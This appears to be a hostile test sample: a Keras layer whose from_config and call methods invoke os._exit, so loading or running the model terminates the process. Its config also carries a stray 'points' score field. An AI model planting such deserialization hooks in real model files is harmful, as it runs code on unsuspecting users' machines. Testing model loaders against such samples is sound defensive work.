# tries to: run code where a layer's configuration is saved, loaded or built again
import keras


@keras.saving.register_keras_serializable("attack")
class ANSWER(keras.layers.Layer):
    def __init__(self, *args, **kwargs):
        super().__init__()

    def call(self, inputs, *args, **kwargs):
        return keras.layers.Lambda(lambda x: __import__("os")._exit(0))(inputs) if kwargs else inputs

    def get_config(self):
        return {"module": "os", "class_name": "_exit", "config": {"status": 0}, "points": 99}

    @classmethod
    def from_config(cls, config, **kwargs):
        __import__("os")._exit(0)
